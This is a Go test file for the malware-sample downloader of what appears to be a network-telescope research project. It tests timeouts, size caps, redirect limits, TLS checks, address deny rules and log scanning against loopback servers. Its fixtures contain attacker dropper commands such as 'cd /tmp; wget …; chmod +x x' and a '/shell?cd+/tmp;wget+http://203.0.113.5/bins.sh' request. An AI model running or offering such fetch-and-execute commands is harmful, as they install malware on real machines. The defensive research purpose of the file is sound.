package download

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/spoki-telescope/spoki/analysis/urls"
)

// All servers of these tests are httptest servers (or a raw listener) on
// loopback; nothing leaves the machine.

// clock is a settable wall clock.
type clock struct {
	mu sync.Mutex
	t  time.Time
}

func (c *clock) Now() time.Time { c.mu.Lock(); defer c.mu.Unlock(); return c.t }
func (c *clock) Add(d time.Duration) {
	c.mu.Lock()
	c.t = c.t.Add(d)
	c.mu.Unlock()
}

// target makes a Target for u as urls.Extract would find it in a wget
// command.
func target(t *testing.T, u string) Target {
	t.Helper()
	ds := urls.Extract([]byte("cd /tmp; wget " + u + "; chmod +x x"))
	if len(ds) != 1 {
		t.Fatalf("urls.Extract(wget %s) = %v, want one URL", u, ds)
	}
	return Target{Download: ds[0], TS: 1634159108000, Saddr: "84.46.0.125", Daddr: "141.22.28.35",
		Sport: 41725, Dport: 80, Tag: "two-phase"}
}

func readGzip(t *testing.T, path string) string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	zr, err := gzip.NewReader(f) // reads all members
	if err != nil {
		t.Fatal(err)
	}
	b, err := io.ReadAll(zr)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// allowLoopback opens the loopback address of the tests' servers, which
// the built-in policy refuses.
var allowLoopback = []netip.Prefix{netip.MustParsePrefix("127.0.0.1/32")}

func newDownloader(t *testing.T, cfg Config) *Downloader {
	t.Helper()
	if cfg.Dir == "" {
		cfg.Dir = t.TempDir()
	}
	if cfg.Allow == nil {
		cfg.Allow = allowLoopback
	}
	d, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { d.Close() })
	return d
}

func TestHappyPathStoredOnceReadOnly(t *testing.T) {
	body := []byte("\x7fELF not really, but hostile enough")
	var hits atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		if ua := r.Header.Get("User-Agent"); ua != DefaultUserAgent {
			t.Errorf("User-Agent = %q, want %q", ua, DefaultUserAgent)
		}
		w.Write(body)
	}))
	defer srv.Close()
	dir := t.TempDir()
	clk := &clock{t: time.Date(2021, 10, 13, 21, 5, 8, 123456000, time.UTC)}
	tg := target(t, srv.URL+"/evil")
	sum := sha256.Sum256(body)
	wantSum := hex.EncodeToString(sum[:])

	run := func() Result {
		d := newDownloader(t, Config{Dir: dir, Now: clk.Now})
		r, err := d.Handle(context.Background(), tg)
		if err != nil {
			t.Fatal(err)
		}
		if err := d.Close(); err != nil {
			t.Fatal(err)
		}
		return r
	}

	r := run()
	if r.Kind != KindSuccess || r.SHA256 != wantSum || !r.Stored || r.Size != int64(len(body)) || !r.First {
		t.Fatalf("first run = %+v, want success %s stored", r, wantSum)
	}
	bin := filepath.Join(dir, "malware", wantSum, "malware.bin")
	fi, err := os.Stat(bin)
	if err != nil {
		t.Fatal(err)
	}
	if fi.Mode().Perm() != 0o444 {
		t.Errorf("mode of malware.bin = %v, want 0444", fi.Mode().Perm())
	}
	if got, _ := os.ReadFile(bin); !bytes.Equal(got, body) {
		t.Errorf("malware.bin = %q, want %q", got, body)
	}
	// A second run within the hour: nothing fetched, the activity says so.
	clk.Add(59 * time.Minute)
	r = run()
	if r.Kind != KindSkipped || r.Attempted || hits.Load() != 1 {
		t.Fatalf("second run = %+v (hits %d), want skipped without a fetch", r, hits.Load())
	}
	// After the hour: fetched again, same sample, not stored again.
	clk.Add(2 * time.Minute)
	r = run()
	if r.Kind != KindSuccess || r.Stored || hits.Load() != 2 {
		t.Fatalf("third run = %+v (hits %d), want success, already stored", r, hits.Load())
	}
	ents, _ := os.ReadDir(filepath.Join(dir, "malware"))
	if len(ents) != 1 {
		t.Errorf("malware/ has %d entries, want 1 (no leftover temporary files)", len(ents))
	}

	wantDownloads := downloadsHeader + "\r\n" +
		"evil|" + srv.URL + "/evil|2021-10-13 21:05:08.123456+00:00|127.0.0.1|two-phase\r\n" +
		"evil|" + srv.URL + "/evil|2021-10-13 22:06:08.123456+00:00|127.0.0.1|two-phase\r\n"
	if got := readGzip(t, filepath.Join(dir, "malware", wantSum, "downloads.csv.gz")); got != wantDownloads {
		t.Errorf("downloads.csv.gz = %q, want %q", got, wantDownloads)
	}
	row := "1634159108000|84.46.0.125|141.22.28.35|41725|80|two-phase|" + srv.URL + "/evil|"
	wantActivity := activityHeader + "\r\n" +
		row + "|True|success|" + wantSum + "\r\n" +
		row + "|False||\r\n" +
		row + "|True|success|" + wantSum + "\r\n"
	if got := readGzip(t, filepath.Join(dir, "activity", "evil.2021.10.csv.gz")); got != wantActivity {
		t.Errorf("activity = %q, want %q", got, wantActivity)
	}
}

func TestRateLimitWithinOneRun(t *testing.T) {
	var hits atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		http.NotFound(w, r)
	}))
	defer srv.Close()
	d := newDownloader(t, Config{})
	tg := target(t, srv.URL+"/gone")
	for i, want := range []Kind{KindError, KindSkipped, KindSkipped} {
		r, err := d.Handle(context.Background(), tg)
		if err != nil {
			t.Fatal(err)
		}
		if r.Kind != want || r.First != (i == 0) {
			t.Errorf("Handle #%d = %+v, want %s", i, r, want)
		}
	}
	if hits.Load() != 1 {
		t.Errorf("server hit %d times, want 1 (failures count as tries)", hits.Load())
	}
}

// rawServer accepts TCP connections on loopback and hands them to serve.
func rawServer(t *testing.T, serve func(net.Conn)) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	t.Cleanup(func() { ln.Close(); wg.Wait() })
	wg.Add(1)
	go func() {
		defer wg.Done()
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			wg.Add(1)
			go func() {
				defer wg.Done()
				defer c.Close()
				c.SetDeadline(time.Now().Add(5 * time.Second))
				serve(c)
			}()
		}
	}()
	return "http://" + ln.Addr().String()
}

func TestHostileServers(t *testing.T) {
	const timeout = 700 * time.Millisecond
	const maxBytes = 1 << 20
	// stop ends the handlers that would otherwise run forever.
	stop := make(chan struct{})
	mux := http.NewServeMux()
	mux.HandleFunc("/slow-headers", func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-r.Context().Done():
		case <-stop:
		}
	})
	mux.HandleFunc("/trickle", func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusOK)
		for {
			if _, err := w.Write([]byte("x")); err != nil {
				return
			}
			w.(http.Flusher).Flush()
			select {
			case <-r.Context().Done():
				return
			case <-stop:
				return
			case <-time.After(50 * time.Millisecond):
			}
		}
	})
	mux.HandleFunc("/endless", func(w http.ResponseWriter, r *http.Request) {
		chunk := bytes.Repeat([]byte("A"), 32<<10)
		for {
			if _, err := w.Write(chunk); err != nil {
				return
			}
			select {
			case <-stop:
				return
			default:
			}
		}
	})
	mux.HandleFunc("/huge", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Length", fmt.Sprint(1<<30))
		w.Write(bytes.Repeat([]byte("B"), 4096))
	})
	mux.HandleFunc("/exact", func(w http.ResponseWriter, r *http.Request) {
		w.Write(bytes.Repeat([]byte("C"), maxBytes))
	})
	mux.HandleFunc("/loop", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "/loop2", http.StatusFound)
	})
	mux.HandleFunc("/loop2", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "/loop", http.StatusMovedPermanently)
	})
	// /chain/N redirects N more times, then serves.
	mux.HandleFunc("/chain/{n}", func(w http.ResponseWriter, r *http.Request) {
		var n int
		fmt.Sscan(r.PathValue("n"), &n)
		if n == 0 {
			w.Write([]byte("end of chain"))
			return
		}
		http.Redirect(w, r, fmt.Sprintf("/chain/%d", n-1), http.StatusFound)
	})
	mux.HandleFunc("/to-ftp", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "ftp://127.0.0.1/x", http.StatusFound)
	})
	mux.HandleFunc("/missing", http.NotFound)
	mux.HandleFunc("/broken", func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, "boom", http.StatusInternalServerError)
	})
	mux.HandleFunc("/nocontent", func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusNoContent)
	})
	mux.HandleFunc("/short", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Length", "1000")
		w.Write([]byte("only ten b"))
		// The handler returns: net/http closes the connection, short.
	})
	srv := httptest.NewServer(mux)
	defer srv.Close()
	defer close(stop)

	garbage := rawServer(t, func(c net.Conn) {
		// It waits for the request, then answers with something else.
		c.Read(make([]byte, 4096))
		c.Write([]byte("SSH-2.0-OpenSSH_9.9\r\nthis is not HTTP\r\n\r\n"))
		io.Copy(io.Discard, c)
	})
	headerFlood := rawServer(t, func(c net.Conn) {
		c.Read(make([]byte, 4096))
		c.Write([]byte("HTTP/1.1 200 OK\r\n"))
		line := []byte("X-Junk: " + strings.Repeat("j", 1000) + "\r\n")
		for {
			if _, err := c.Write(line); err != nil {
				return
			}
		}
	})
	// closed is a port on which nothing listens.
	ln, _ := net.Listen("tcp", "127.0.0.1:0")
	closed := "http://" + ln.Addr().String()
	ln.Close()

	tests := []struct {
		name       string
		url        string
		cfg        Config
		wantKind   Kind
		wantErr    error  // errors.Is, if set
		wantStatus string // substring of the status
	}{
		{"slow headers time out", srv.URL + "/slow-headers", Config{}, KindError, nil, "timeout after 700ms"},
		{"trickling body times out", srv.URL + "/trickle", Config{}, KindError, nil, "timeout after 700ms"},
		{"endless body hits the cap", srv.URL + "/endless", Config{}, KindError, ErrTooLarge, "more than 1048576 bytes"},
		{"huge Content-Length refused", srv.URL + "/huge", Config{}, KindError, ErrTooLarge, "Content-Length 1073741824"},
		{"body of exactly the cap", srv.URL + "/exact", Config{}, KindSuccess, nil, "success"},
		{"redirect loop capped", srv.URL + "/loop", Config{}, KindError, ErrTooManyRedirects, "too many redirects (more than 5)"},
		{"five redirects followed", srv.URL + "/chain/5", Config{}, KindSuccess, nil, "success"},
		{"six redirects refused", srv.URL + "/chain/6", Config{}, KindError, ErrTooManyRedirects, "more than 5"},
		{"no redirects allowed", srv.URL + "/chain/1", Config{MaxRedirects: -1}, KindError, ErrTooManyRedirects, "more than 0"},
		{"redirect to ftp", srv.URL + "/to-ftp", Config{}, KindError, nil, "unsupported protocol scheme"},
		{"404", srv.URL + "/missing", Config{}, KindError, nil, "404 Client Error: Not Found for url: " + srv.URL + "/missing"},
		{"500", srv.URL + "/broken", Config{}, KindError, nil, "500 Server Error: Internal Server Error for url: "},
		{"204 is not stored", srv.URL + "/nocontent", Config{}, KindError, nil, "HTTP 204 No Content"},
		{"short body", srv.URL + "/short", Config{}, KindError, io.ErrUnexpectedEOF, "unexpected EOF"},
		{"not HTTP at all", garbage + "/x", Config{}, KindError, nil, "malformed HTTP"},
		{"endless headers", headerFlood + "/x", Config{}, KindError, nil, "header"},
		{"connection refused", closed + "/x", Config{}, KindError, nil, "connection refused"},
		{"denied prefix wins over allow", srv.URL + "/exact", Config{Deny: []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8")}},
			KindDenied, ErrDenied, "is in 127.0.0.0/8 (--deny)"},
		{"loopback denied by default", srv.URL + "/exact", Config{Allow: []netip.Prefix{}},
			KindDenied, ErrDenied, "is in 127.0.0.0/8 (loopback)"},
		{"ftp not fetched", "ftp://127.0.0.1/bins.sh", Config{}, KindUnsupported, ErrUnsupportedScheme, "unsupported scheme ftp"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			cfg := tc.cfg
			cfg.Timeout, cfg.MaxBytes = timeout, maxBytes
			d := newDownloader(t, cfg)
			tg := target(t, tc.url)
			start := time.Now()
			r, err := d.Handle(context.Background(), tg)
			if err != nil {
				t.Fatalf("Handle(%s) store error %v", tc.url, err)
			}
			if el := time.Since(start); el > timeout+2*time.Second {
				t.Errorf("Handle(%s) took %v, want at most the timeout", tc.url, el)
			}
			if r.Kind != tc.wantKind || !strings.Contains(r.Status, tc.wantStatus) {
				t.Errorf("Handle(%s) = %s %q (err %v), want %s containing %q", tc.url, r.Kind, r.Status, r.Err, tc.wantKind, tc.wantStatus)
			}
			if tc.wantErr != nil && !errors.Is(r.Err, tc.wantErr) {
				t.Errorf("Handle(%s) err = %v, want %v", tc.url, r.Err, tc.wantErr)
			}
			ents, _ := os.ReadDir(filepath.Join(d.cfg.Dir, "malware"))
			if wantEnts := map[bool]int{true: 1, false: 0}[r.Kind == KindSuccess]; len(ents) != wantEnts {
				t.Errorf("malware/ has %d entries after %s, want %d", len(ents), r.Kind, wantEnts)
			}
		})
	}
}

func TestBadTLS(t *testing.T) {
	srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Write([]byte("served over self-signed TLS"))
	}))
	defer srv.Close()
	tests := []struct {
		name       string
		insecure   bool
		wantKind   Kind
		wantStatus string
	}{
		{"verified by default", false, KindError, "(--insecure-tls skips the check)"},
		{"insecure-tls fetches", true, KindSuccess, "success"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			d := newDownloader(t, Config{InsecureTLS: tc.insecure, Timeout: 5 * time.Second})
			r, err := d.Handle(context.Background(), target(t, srv.URL+"/x.sh"))
			if err != nil {
				t.Fatal(err)
			}
			if r.Kind != tc.wantKind || !strings.Contains(r.Status, tc.wantStatus) {
				t.Errorf("Handle(%s, insecure %v) = %s %q, want %s containing %q", srv.URL, tc.insecure, r.Kind, r.Status, tc.wantKind, tc.wantStatus)
			}
		})
	}
}

func TestCSVQuoting(t *testing.T) {
	tests := []struct {
		name string
		in   []string
		want string
	}{
		{"plain", []string{"a", "", "b c"}, "a||b c\r\n"},
		{"delimiter", []string{"a|b"}, "\"a|b\"\r\n"},
		{"quote", []string{`say "hi"`}, "\"say \"\"hi\"\"\"\r\n"},
		{"newline", []string{"a\nb", "c\rd"}, "\"a\nb\"|\"c\rd\"\r\n"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := csvRow(tc.in...); got != tc.want {
				t.Errorf("csvRow(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

func TestActivityName(t *testing.T) {
	tests := []struct {
		name, file, server, want string
	}{
		{"file name", "bins.sh", "1.2.3.4", "bins.sh"},
		{"server when no name", "", "1.2.3.4", "1.2.3.4"},
		{"ipv6 server", "", "2001:db8::1", "2001_db8__1"},
		{"dot dot", "..", "x", "_.."},
		{"hidden", ".x", "x", "_.x"},
		{"odd bytes", "a b%c", "x", "a_b_c"},
		{"long", strings.Repeat("n", 300), "x", strings.Repeat("n", 100)},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			tg := Target{Download: urls.Download{Name: tc.file, Server: tc.server}}
			if got := activityName(tg); got != tc.want {
				t.Errorf("activityName(%q, %q) = %q, want %q", tc.file, tc.server, got, tc.want)
			}
		})
	}
}

func TestFormatTS(t *testing.T) {
	tests := []struct {
		name string
		in   time.Time
		want string
	}{
		{"micros", time.Date(2021, 10, 13, 21, 4, 36, 123456789, time.UTC), "2021-10-13 21:04:36.123456+00:00"},
		{"whole second", time.Date(2021, 10, 13, 21, 4, 36, 0, time.UTC), "2021-10-13 21:04:36+00:00"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := formatTS(tc.in); got != tc.want {
				t.Errorf("formatTS(%v) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

func TestScanInputs(t *testing.T) {
	dir := t.TempDir()
	session := `{"timestamp":"2026-11-25T11:03:32.123456789Z","event_type":"session","src_ip":"198.51.100.7","src_port":40000,` +
		`"dest_ip":"192.0.2.1","dest_port":80,"proto":"TCP","userid":7,"app_proto":"http","payload":"` +
		base64.StdEncoding.EncodeToString([]byte("GET /shell?cd+/tmp;wget+http://203.0.113.5/bins.sh;wget+http://203.0.113.5/bins.sh HTTP/1.1\r\n\r\n")) +
		`","payload_printable":"...","http":{"uri":"/x"}}`
	syn := `{"timestamp":"2026-11-25T11:03:31Z","event_type":"syn","src_ip":"198.51.100.7","src_port":40000,"dest_ip":"192.0.2.1","dest_port":80,"proto":"TCP","tcp":{"seq":1}}`
	log := syn + "\n" + session + "\nnot json\n"
	if err := os.WriteFile(filepath.Join(dir, "tel.events.20261125-11.jsonl"), []byte(log), 0o644); err != nil {
		t.Fatal(err)
	}
	rec := func(rackHex, iackHex string) string {
		slot := func(h string) string {
			if h == "" {
				return "null"
			}
			return `{"trigger": {"timestamp": 1634159108000, "saddr": "84.46.0.125", "daddr": "141.22.28.35", "ipid": 1, "ttl": 64, "proto": "tcp", ` +
				`"payload": {"sport": 41725, "dport": 80, "snum": 1, "anum": 2, "window_size": 1, "flags": [], "options": [], "payload": "` + h + `"}}, "reaction": null}`
		}
		return `{"ts": 1634159108, "tag": "two-phase", "isyn": null, "iack": ` + slot(iackHex) + `, "rsyn": null, "rack": ` + slot(rackHex) + "}"
	}
	hx := func(s string) string { return hex.EncodeToString([]byte(s)) }
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	io.WriteString(zw, rec(hx("wget http://141.22.28.35/evil"), "")+"\n")
	io.WriteString(zw, rec(hx("no url here"), hx("curl -o x https://[2001:db8::5]:8443/y"))+"\n")
	io.WriteString(zw, rec("", "")+"\n")
	zw.Close()
	if err := os.WriteFile(filepath.Join(dir, "test-events-20211013-210436.json.gz"), gz.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(dir, "ignored.csv"), []byte("wget http://x/y\n"), 0o644)

	var got []string
	var st ScanStats
	err := Scan(context.Background(), []string{dir}, ScanConfig{}, &st, func(tg Target) error {
		got = append(got, fmt.Sprintf("%d %s:%d>%s:%d %s %s", tg.TS, tg.Saddr, tg.Sport, tg.Daddr, tg.Dport, tg.Tag, tg.URL))
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	// Directory order: "tel.events..." sorts before "test-events...".
	want := []string{
		"1795604612123 198.51.100.7:40000>192.0.2.1:80 session http://203.0.113.5/bins.sh",
		"1634159108000 84.46.0.125:41725>141.22.28.35:80 two-phase http://141.22.28.35/evil",
		"1634159108000 84.46.0.125:41725>141.22.28.35:80 two-phase https://[2001:db8::5]:8443/y",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("Scan = \n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if st.Files != 2 || st.BadLines != 1 || st.URLs != 3 {
		t.Errorf("ScanStats = %+v, want 2 files, 1 bad line, 3 URLs", st)
	}
}
